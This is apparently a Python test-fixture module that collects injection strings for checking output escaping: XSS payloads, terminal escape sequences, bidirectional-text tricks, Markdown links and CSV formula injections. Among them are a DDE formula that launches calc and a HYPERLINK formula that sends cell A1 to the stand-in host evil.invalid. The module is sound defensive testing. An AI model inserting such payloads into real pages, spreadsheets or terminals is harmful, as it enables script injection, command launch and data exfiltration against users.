"""Strings that would do something if they were shown as they are: one corpus for every test of what people see.

Terminal, HTML, Markdown and CSV each have their own way to be tricked; a title, an answer or a name in a data file may
hold any of them. A test writes the strings in where content of a target comes from and looks at what comes out.
"""

from __future__ import annotations

import re
import unicodedata

HTML = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "</script><script>window.pwned=1</script>",
    '"><svg/onload=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    "<!--<script>",
    "</textarea></style></title><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "javascript:window.pwned=1",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
)
"""Markup, attributes, templates: `window.pwned` is undefined in a page that shows them well."""

TERMINAL = (
    "\x1b[31mred\x1b[0m",  # CSI: colour
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "\x1b[1A\x1b[2Kpass",  # CSI: rewrite the line above
    "\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\",  # OSC 8: a link
    "\x1b]0;title\x07",  # OSC 0: the title of the window
    "\x1b]52;c;cHduZWQ=\x07",  # OSC 52: the clipboard
    '\x1bP$q"p\x1b\\',  # DCS: a question that the terminal answers as if typed
    "\x9b31mred\x9d0;title\x9c",  # the same in C1 codes
    "over\rwrite",
    "back\x08\x08\x08\x08space",
    "bell\x07 null\x00 delete\x7f",
    "form\x0cfeed\x0bvertical",
    "[bold red]markup[/bold red] [link=https://evil.invalid]x[/link]",  # of rich
    "[/]",
    ":bomb:",
)
"""Escapes, control characters, and the markup of our own terminal library."""

BIDI = (
    "user\u202egnp.exe",
    "\u2066\u202dabc\u2069",
    "a\u200eb\u200fc\u061cd",
    "zero\u200bwidth\ufeffmark",
    "\U000e0041\U000e0042tags",
    "line\u2028separator\u2029paragraph",
)
"""Characters that hide or turn round what stands beside them."""

FORMULAS = (
    '=HYPERLINK("https://evil.invalid?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
)
"""What a spreadsheet would take for a formula when it opens a CSV file."""

MARKDOWN = (
    "[click](javascript:alert(1))",
    "![x](https://evil.invalid/x.png)",
    "| a | b |\n|---|---|",
    "`code` *b* _i_ ~~s~~ # head",
    "https://evil.invalid @somebody www.evil.invalid",
    "```\nfence\n```",
)
"""Links, pictures that would be fetched, cells and headings."""

BROKEN = ("\ud800lone surrogate", "a" * 20_000, "e" + "\u0301" * 500, "", " ", "\u00a0", "\x00")
"""What breaks an encoder, a layout or a comparison."""

EVERY = (*HTML, *TERMINAL, *BIDI, *FORMULAS, *MARKDOWN)
"""All that is text in any encoding, so that it can also be written to a file or a database as it is."""

STORABLE = tuple(text for text in EVERY if "\x00" not in text)

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_OWN_STYLE = re.compile(r"\x1b\[[0-9;]*m")
_TURNS = {*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C}


def acting_in_terminal(output: str, *, colours: bool = False) -> list[str]:
    """The characters of what was printed that a terminal would obey; none where all is well.

    Args:
        output: what a command wrote to stdout or stderr.
        colours: whether our own colours (`ESC [ … m`) are allowed, as in a terminal; a pipe has none.
    """
    text = _OWN_STYLE.sub("", output) if colours else output
    return [f"U+{ord(c):04X}" for c in text if _acts(c)]


def _acts(character: str) -> bool:
    if character in "\n\t":
        return False
    return ord(character) in _TURNS or unicodedata.category(character) in {"Cc", "Zl", "Zp"}


def acting_in_spreadsheet(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula (OWASP, CSV injection)."""
    return cell.startswith(_FORMULA_START) or cell.lstrip().startswith(_FORMULA_START[:4])
